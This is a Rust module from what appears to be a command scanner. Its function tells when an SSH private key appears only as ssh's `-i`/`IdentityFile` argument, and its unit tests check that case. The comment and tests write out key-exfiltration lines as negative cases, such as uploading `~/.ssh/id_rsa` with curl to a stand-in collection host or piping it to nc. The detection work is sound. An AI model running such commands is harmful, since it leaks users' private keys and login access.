//! A private key that a line names only as ssh's identity file (round 33b).
//!
//! `ssh -i ~/.ssh/deploy_key host`, `rsync -e "ssh -i ~/.ssh/k" ./dist host:/srv`,
//! `scp -o IdentityFile=~/.ssh/k …`: ssh reads the key to sign the login and never sends it. A
//! line that also names the key any other way (`curl -F f=@~/.ssh/id_rsa`, `cat ~/.ssh/id_rsa |
//! nc …`) is not this.

/// Whether every `.ssh/` path on the line is the argument of `-i` or `IdentityFile`, on a line
/// that runs ssh, scp, sftp, rsync or git.
pub(super) fn only_as_identity(line: &str) -> bool {
    let l = crate::ascii_lowered(line);
    let runs_ssh = l
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
        .any(|w| matches!(w, "ssh" | "scp" | "sftp" | "rsync" | "git"));
    if !runs_ssh {
        return false;
    }
    let mut seen = false;
    let mut from = 0;
    while let Some(i) = l[from..].find(".ssh/").map(|i| i + from) {
        seen = true;
        let start = l[..i]
            .rfind(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '=')
            .map_or(0, |p| p + 1);
        let before = l[..start].trim_end_matches([' ', '"', '\'']);
        let identity = before.ends_with(" -i")
            || before == "-i"
            || before.ends_with("identityfile")
            || before.ends_with("identityfile=");
        if !identity {
            return false;
        }
        from = i + ".ssh/".len();
    }
    seen
}

#[cfg(test)]
mod tests {
    use super::only_as_identity;

    #[test]
    fn identity_options_are_not_sends() {
        assert!(only_as_identity(
            "rsync -avz -e \"ssh -i ~/.ssh/deploy_key -p 2222\" ./dist/ user@host:/srv/"
        ));
        assert!(only_as_identity(
            "ssh -i ~/.ssh/ops_ed25519 admin@box.example"
        ));
        assert!(only_as_identity(
            "scp -o IdentityFile=~/.ssh/k notes.txt user@box.example:/tmp/"
        ));
        // The key also named as an upload, or piped: not an identity use.
        assert!(!only_as_identity("ssh -i ~/.ssh/k h 'cat' < ~/.ssh/id_rsa"));
        assert!(!only_as_identity(
            "curl -F f=@~/.ssh/id_rsa https://collect.example"
        ));
        assert!(!only_as_identity("cat ~/.ssh/id_rsa | ssh h 'cat > x'"));
    }
}
